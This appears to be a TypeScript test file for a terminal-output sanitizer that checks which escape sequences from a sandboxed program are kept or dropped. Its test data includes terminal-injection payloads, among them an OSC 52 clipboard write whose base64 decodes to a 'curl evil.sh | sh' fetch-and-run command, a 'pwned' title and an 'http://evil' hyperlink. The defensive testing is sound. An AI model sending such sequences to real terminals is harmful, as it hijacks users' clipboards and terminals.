// The terminal filter, table-tested: what passes (text, colours, cursor movement) and what a
// sandboxed program must never get to a person's terminal (titles, clipboard, answer-backs).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import {
  MAX_SEQUENCE,
  TerminalSanitizer,
  sanitizeTerminalText,
} from '../../../app/terminal/sanitize.ts';

const KEPT: [string, string][] = [
  ['plain text', 'hello, world\r\n'],
  ['unicode text', 'naïve — 日本語 🐑\n'],
  ['tabs, backspace and the bell', 'a\tb\bc\x07'],
  ['SGR colours', '\x1b[1;31mred\x1b[0m \x1b[38;5;208mo\x1b[38;2;1;2;3mrgb\x1b[m'],
  ['SGR with colon sub-parameters', '\x1b[4:3mcurly\x1b[24m'],
  ['cursor movement and erasing', '\x1b[2J\x1b[H\x1b[10;20H\x1b[3A\x1b[K\x1b[1G'],
  ['scrolling region, insert, delete', '\x1b[1;20r\x1b[2L\x1b[3P\x1b[4@'],
  ['save and restore the cursor', '\x1b7x\x1b8\x1b[s\x1b[u'],
  ['alternate screen and cursor visibility', '\x1b[?1049h\x1b[?25l\x1b[?25h\x1b[?1049l'],
  ['line-drawing character set', '\x1b(0qqq\x1b(B'],
  ['the cursor shape', '\x1b[2 q'],
  ['keypad modes', '\x1b=\x1b>'],
  ['reverse index', '\x1bM'],
];

const DROPPED: [string, string, string][] = [
  ['a window title (OSC 0, BEL)', 'a\x1b]0;pwned\x07b', 'ab'],
  ['a window title (OSC 2, ST)', 'a\x1b]2;pwned\x1b\\b', 'ab'],
  ['a clipboard write (OSC 52)', 'a\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07b', 'ab'],
  ['a clipboard read (OSC 52 ?)', '\x1b]52;c;?\x07', ''],
  ['a colour query that answers (OSC 11 ?)', '\x1b]11;?\x07', ''],
  ['a hyperlink (OSC 8)', '\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\', 'link'],
  ['device status report (answers)', 'a\x1b[6nb', 'ab'],
  ['device attributes (answers)', '\x1b[c\x1b[>c\x1b[=c', ''],
  ['window ops: title report, resize', '\x1b[21t\x1b[8;100;200t', ''],
  ['mouse reporting', '\x1b[?1000h\x1b[?1006h', ''],
  ['focus reporting', '\x1b[?1004h', ''],
  ['bracketed paste', '\x1b[?2004h', ''],
  ['a mix of allowed and reporting modes', '\x1b[?25;1000h', ''],
  ['LNM (changes what Enter sends)', '\x1b[20h', ''],
  ['DECRQM (answers)', '\x1b[?2004$p', ''],
  ['DECRQSS via DCS (answers)', '\x1bP$q"p\x1b\\', ''],
  ['a DCS string', 'a\x1bPq#0;2;0;0;0#1~~\x1b\\b', 'ab'],
  ['an APC string', 'a\x1b_G a=T;AAAA\x1b\\b', 'ab'],
  ['a PM string', 'a\x1b^private\x1b\\b', 'ab'],
  ['a SOS string', 'a\x1bXstring\x1b\\b', 'ab'],
  ['a full reset', 'a\x1bcb', 'ab'],
  ['DECID (answers)', '\x1bZ', ''],
  ['DECALN (fills the screen)', '\x1b#8', '8'],
  ['ENQ (answerback)', 'a\x05b', 'ab'],
  ['SO and SI', 'a\x0e\x0fb', 'ab'],
  ['DEL and NUL', 'a\x7f\x00b', 'ab'],
  ['8-bit CSI (U+009B)', 'a\u009b6nb', 'ab'],
  ['8-bit OSC (U+009D) ended by 8-bit ST', 'a\u009d0;t\u009cb', 'ab'],
  ['8-bit DCS, APC, PM, SOS', '\u0090x\u009c\u009fx\u009c\u009ex\u009c\u0098x\u009c', ''],
  ['other C1 controls', 'a\u0085\u0084b', 'ab'],
  ['an unknown charset', '\x1b(%5x', '5x'],
  ['an over-long CSI', `\x1b[${'1;'.repeat(MAX_SEQUENCE)}mX`, 'X'],
  ['a CSI cut by a control', 'a\x1b[1\x07b', 'a\x07b'],
];

test('text, colours and cursor movement pass unchanged', () => {
  for (const [name, input] of KEPT) assert.equal(sanitizeTerminalText(input), input, name);
});

test('titles, the clipboard, answer-backs and terminal reprogramming are dropped', () => {
  for (const [name, input, expected] of DROPPED)
    assert.equal(sanitizeTerminalText(input), expected, name);
});

test('a sequence cut across chunks is filtered as if it came whole', () => {
  const s = new TerminalSanitizer();
  const parts = ['a\x1b', ']52;c;', 'AAAA', '\x1b', '\\b\x1b[3', '1mc\x1b[', '6n'];
  const out = parts.map((p) => s.push(Buffer.from(p))).join('') + s.end();
  assert.equal(out, 'ab\x1b[31mc');
  assert.ok(s.droppedCount >= 2);
});

test('UTF-8 split across chunks is decoded, not mangled', () => {
  const bytes = Buffer.from('é🐑');
  const s = new TerminalSanitizer();
  const out = [...bytes].map((b) => s.push(Uint8Array.of(b))).join('') + s.end();
  assert.equal(out, 'é🐑');
});

test('an unfinished string at the end is dropped, never shown', () => {
  const s = new TerminalSanitizer();
  assert.equal(s.push('ok\x1b]0;never ended'), 'ok');
  assert.equal(s.end(), '');
  assert.equal(s.push('next'), 'next');
});
